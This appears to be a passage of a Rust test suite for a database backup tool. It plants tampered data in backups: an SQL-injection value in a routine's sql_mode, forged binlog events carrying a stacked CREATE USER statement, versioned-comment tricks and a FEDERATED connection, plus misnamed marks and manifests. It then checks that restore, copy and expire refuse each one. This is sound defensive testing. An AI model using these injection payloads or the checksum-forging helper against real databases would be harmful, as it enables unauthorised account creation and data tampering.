    plant_in_the_mariadb_schema(&backup, |s| {
        let r = &mut s["routines"][0];
        routine = r["name"].as_str().unwrap().to_string();
        r["sql_mode"] = "STRICT_ALL_TABLES', sql_log_bin = 0, sql_mode = '".into();
    });
    let run = backup.restore(&scratch.topology(), &["--shard", "mysql-0"]);
    assert_eq!(run.code, 2, "{run:?}");
    assert!(
        run.stderr.contains(&format!(
            "routine shop.{routine}: its sql_mode \"STRICT_ALL_TABLES', sql_log_bin = 0, sql\" is not a list of SQL mode names"
        )),
        "{}",
        run.stderr
    );
    assert_eq!(shop_on_target(), Some(0));

    plant_in_the_mariadb_schema(&backup, |s| {
        s["routines"][0]["sql_mode"] = "STRICT_ALL_TABLES,NO_SUCH_MODE".into();
    });
    let run = backup.restore(&scratch.topology(), &["--shard", "mysql-0"]);
    assert_ne!(run.code, 0, "{run:?}");
    assert!(
        run.stderr.contains(&format!(
            "setting what routine shop.{routine} was created under (the target refuses it)"
        )),
        "{}",
        run.stderr
    );
    assert_eq!(shop_on_target(), Some(0), "the restore began");
}

/// `copy` reads its source like any repository: an object of a backup
/// replaced by one larger than its manifest records (a sparse file of
/// 1.5 GiB, which costs nothing to plant) is refused by name before it is
/// read, and the replica gets no manifest of that backup. Before, each of
/// the copy's eight threads read its object whole, whatever its size.
#[test]
fn a_copy_refuses_a_source_object_larger_than_its_manifest_records() {
    let backup = Backup::take();
    let replica = backup.dir.path().join("replica");
    let mut text = std::fs::read_to_string(&backup.topology).unwrap();
    text.push_str(&format!(
        "replicas:\n  - name: dr\n    url: {}\n",
        replica.display()
    ));
    std::fs::write(&backup.topology, text).unwrap();
    let m = support::manifest(&backup.topology, &backup.id);
    let object = m.stored_objects().last().unwrap();
    let planted: u64 = 1_536 << 20;
    let topo = db::topology(&backup.topology);
    let topology::RepositoryLocation::Local(root) = &topo.repository.location else {
        panic!("a directory repository")
    };
    std::fs::File::create(root.join(object.key))
        .unwrap()
        .set_len(planted)
        .unwrap();

    let run = support::shardcut(&["copy", "-t", backup.arg(), "--to", "dr"]);
    assert_eq!(run.code, 1, "{run:?}");
    assert!(
        run.stderr
            .contains(&format!("reading {} to copy", object.key))
            && run.stderr.contains(&format!(
                "object {} is {planted} bytes, more than the {} it may take: not read",
                object.key, object.bytes_stored,
            )),
        "{run:?}"
    );
    let manifest = shard_agent::manifest::keys::manifest(&backup.id);
    assert!(!replica.join(manifest).exists());
}

/// An object read from one place that names another is refused: a
/// manifest naming a chunk outside its backup's folder (restore would read
/// it, `copy` write it into the replica: a lock there blocks every run),
/// and a mark stored under another name than its own (`expire` deleted
/// marks by the name inside them, so a planted old mark holding the name
/// of a new one deleted the new one).
#[test]
fn a_manifest_or_a_mark_naming_another_place_than_where_it_lies_is_refused() {
    let backup = Backup::take();
    let run = support::shardcut(&["mark", "-t", backup.arg(), "--name", "kept"]);
    assert_eq!(run.code, 0, "{run:?}");
    let kept = shard_agent::manifest::keys::mark("kept");
    let mut planted: serde_json::Value =
        serde_json::from_slice(&backup.repo.get(&kept).unwrap()).unwrap();
    planted["cut"]["taken_at"] = "2000-01-01T00:00:00Z".into();
    let planted_key = shard_agent::manifest::keys::mark("planted");
    backup
        .repo
        .put(&planted_key, &serde_json::to_vec(&planted).unwrap())
        .unwrap();
    let run = support::shardcut(&["expire", "-t", backup.arg(), "--keep-last", "1"]);
    assert_eq!(run.code, 1, "{run:?}");
    assert!(
        run.stderr.contains(&format!(
            "mark {planted_key} names mark `kept`, stored elsewhere: the repository is damaged or was tampered with"
        )),
        "{run:?}"
    );
    assert!(backup.repo.exists(&kept).unwrap(), "{run:?}");
    backup.repo.delete(&planted_key).unwrap();

    let mut m = backup.manifest();
    let chunk = pg0_chunks(&mut m).next().unwrap();
    chunk.as_object_mut().unwrap().remove("bundle");
    chunk["key"] = "locks/planted.lock".into();
    backup.save_manifest(&m);
    let refusal = format!(
        "manifest {} names object locks/planted.lock, outside its backup's folder: the repository is damaged or was tampered with",
        shard_agent::manifest::keys::manifest(&backup.id)
    );
    let run = support::shardcut(&["list", "-t", backup.arg()]);
    assert!(
        run.stdout
            .lines()
            .any(|l| l.starts_with(&backup.id) && l.contains(&refusal)),
        "{run:?}"
    );
    // Restore and verify find their backup the same way.
    let run = support::shardcut(&["verify", "-t", backup.arg(), "--backup", &backup.id]);
    assert_eq!(run.code, 1, "{run:?}");
    assert!(run.stderr.contains(&refusal), "{run:?}");
}

/// `bytes` with the statement text of the query event holding `old`
/// replaced by `new`: its length and checksum made to match, as someone
/// who can write the repository would.
fn with_statement(bytes: &[u8], old: &str, new: &str) -> Vec<u8> {
    let at = bytes
        .windows(old.len())
        .position(|w| w == old.as_bytes())
        .expect("the statement in the segment");
    // The event holding it: events follow the 4-byte magic, each with its
    // size in bytes 9..13 of its header.
    let mut start = 4;
    let size = loop {
        let size = u32::from_le_bytes(bytes[start + 9..start + 13].try_into().unwrap()) as usize;
        if at < start + size {
            break size;
        }
        start += size;
    };
    let end = start + size - 4;
    assert_eq!(
        crc32fast::hash(&bytes[start..end]).to_le_bytes(),
        bytes[end..end + 4],
        "the event ends with its checksum"
    );
    let mut event = bytes[start..at].to_vec();
    event.extend_from_slice(new.as_bytes());
    let new_size = (event.len() + 4) as u32;
    event[9..13].copy_from_slice(&new_size.to_le_bytes());
    let crc = crc32fast::hash(&event);
    event.extend_from_slice(&crc.to_le_bytes());
    [&bytes[..start], &event[..], &bytes[start + size..]].concat()
}

/// Statements planted in a captured MariaDB segment (a repository without
/// encryption, the segment's description made to match) never reach the
/// target beyond one statement of a kind a replay runs: a second statement
/// after the first, one behind a versioned comment the server would skip
/// (its version above the server's) and one it would read, a table whose
/// rows would live on another host. Before, replay ran the text of a query
/// event as it was: all of these ran.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn statements_planted_in_a_mariadb_segment_never_run() {
    use mysql_async::prelude::Queryable;
    use shard_agent::capture::spill::SpillBuffer;
    use shard_agent::capture::{list_segments, load_segment, store_segment, SegmentData};

    let (_sb, _dir, topo_path, topo) = support::private_cluster(1, 0);
    let arg = topo_path.to_str().unwrap();
    let my = &topo.shards[0];
    let mut c = db::mysql(my, None).await;
    c.query_drop("CREATE DATABASE bank; CREATE TABLE bank.t (id INT PRIMARY KEY)")
        .await
        .unwrap();
    let ok = crate::pitr::run_ok_async;
    ok(&["capture", "-t", arg, "--once", "--no-mark"]).await;
    ok(&["backup", "-t", arg]).await;
    let logged = "CREATE TABLE bank.later (id INT PRIMARY KEY)";
    c.query_drop(logged).await.unwrap();
    c.query_drop("INSERT INTO bank.later VALUES (1)")
        .await
        .unwrap();
    ok(&["capture", "-t", arg, "--once"]).await;

    let repo = db::repository(&topo);
    let seg = list_segments(&repo, "mysql-0", "binlog")
        .unwrap()
        .into_iter()
        .find(|s| {
            let raw = load_segment(&repo, s).unwrap();
            raw.windows(logged.len()).any(|w| w == logged.as_bytes())
        })
        .expect("the segment holding the CREATE TABLE");
    let original = load_segment(&repo, &seg).unwrap();
    let sort = seg
        .key
        .rsplit('/')
        .next()
        .and_then(|name| name.strip_suffix(".binlog.zst"))
        .unwrap()
        .to_string();
    let target = PrivateSandbox::up(1, 0, "ready");
    let tgt = target.topology();
    let restored = db::topology(&tgt);
    let evil = || {
        crate::pitr::names(
            &restored.shards[0],
            "SELECT User FROM mysql.user WHERE User = 'evil'",
        )
    };
    for (planted, refusal) in [
        (
            format!("{logged}; CREATE USER 'evil'@'%' IDENTIFIED BY 'pw'"),
            "the target refused `CREATE TABLE bank.later`",
        ),
        (
            "/*!999999 DROP TABLE bank.later */ /*!40000 CREATE USER 'evil'@'%' IDENTIFIED BY 'pw' */"
                .to_string(),
            "a DROP statement replay cannot read",
        ),
        (
            "CREATE TABLE bank.later (id INT PRIMARY KEY) ENGINE=FEDERATED CONNECTION='mysql://evil:pw@127.0.0.1:9/d/t'"
                .to_string(),
            "ENGINE=FEDERATED reaches beyond the server's own tables",
        ),
    ] {
        let mut raw = SpillBuffer::from_vec(with_statement(&original, logged, &planted));
        let data = SegmentData {
            sort: &sort,
            ext: "binlog",
            raw: &mut raw,
        };
        store_segment(&repo, seg.clone(), data, topology::Compression::Zstd(3)).unwrap();
        let run =
            crate::pitr::restore_until(arg, tgt.to_str().unwrap(), "latest", &["--overwrite"])
                .await;
        assert_eq!(run.code, 1, "{planted}: {run:?}");
        assert!(
            run.stderr.contains("mysql-0: replay") && run.stderr.contains(refusal),
            "{planted}: {}",
            run.stderr
        );
        if !refusal.starts_with("the target refused") {
            // Refused before the server saw it: the refusal shows no value
            // of the statement (the server's own error quotes it).
            assert!(!run.stderr.contains("pw"), "{}", run.stderr);
        }
        assert_eq!(evil().await, Vec::<String>::new(), "{planted} ran");
    }
}
